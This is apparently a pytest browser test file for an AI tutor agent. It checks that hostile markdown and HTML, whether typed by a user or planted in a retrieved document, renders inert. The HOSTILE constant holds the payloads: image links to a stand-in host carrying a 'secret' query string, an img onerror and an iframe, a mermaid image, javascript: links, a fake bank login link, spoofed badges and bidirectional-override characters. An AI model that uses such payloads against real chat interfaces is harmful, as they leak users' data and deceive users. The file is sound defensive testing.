"""What hostile text can do: be read, and nothing else."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from agent import Settings, open_agent
from agent.ports import Document
from tests.browser.conftest import NewVisitor
from tests.browser.serving import Server
from tests.browser.visitor import Visitor

pytestmark = pytest.mark.browser

EVIL = "http://evil.example/p.png?q=secret"
HOSTILE = "\n\n".join(
    (
        f"![image]({EVIL})",
        f"![by reference][r]\n\n[r]: {EVIL}",
        f'<img src="{EVIL}" onerror="alert(1)"><iframe src="{EVIL}"></iframe>',
        f'```mermaid\ngraph TD; A@{{ img: "{EVIL}" }}\n```',
        "[click](javascript:alert(1)) [bank](https://evil.example/login)",
        ":red-background[Approved] :material/check: $\\href{javascript:alert(1)}{x}$",
        "\u202etxet denrut\u202c and a zero\u200bwidth",
    )
)


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A library with a document that means harm, in title, heading and text."""
    data = tmp_path_factory.mktemp("hostile") / "data"
    agent = open_agent(Settings(interlude_data=data, interlude_embedder="none"))
    agent.ports.library.add(
        Document(
            id="trap",
            title=f"Trapdoors ![t]({EVIL})",
            subject="databases",
            text=f"# Trapdoor ![h]({EVIL})\n\nA trapdoor is a hidden way in. {HOSTILE}",
            source=f"![s]({EVIL})",
        )
    )
    agent.close()
    with Server(data) as server:
        yield server


def test_what_a_user_writes_fetches_and_runs_nothing(visitor: Visitor) -> None:
    """Also in the thread's title, its button, and the record of the turn."""
    visitor.open_tutor().ask(HOSTILE)
    expect(visitor.said.first).to_contain_text("evil.example")
    assert visitor.page.locator("img[src*='evil'], iframe[src*='evil']").count() == 0
    visitor.reload()
    visitor.panel("State")


def test_what_a_document_says_fetches_and_runs_nothing(
    new_visitor: NewVisitor, hostile_server: Server
) -> None:
    """Quoted, cited, opened, traced and exported."""
    visitor = new_visitor(hostile_server).open_tutor()
    answer = visitor.ask("What is a trapdoor?")
    expect(answer).to_contain_text("A trapdoor is a hidden way in")
    visitor.sources.first.click()
    expect(visitor.popover).to_contain_text("hidden way in")
    assert visitor.page.locator("img[src*='evil'], iframe[src*='evil']").count() == 0
    visitor.page.keyboard.press("Escape")
    visitor.panel("Thinking")
    visitor.panel("Next")
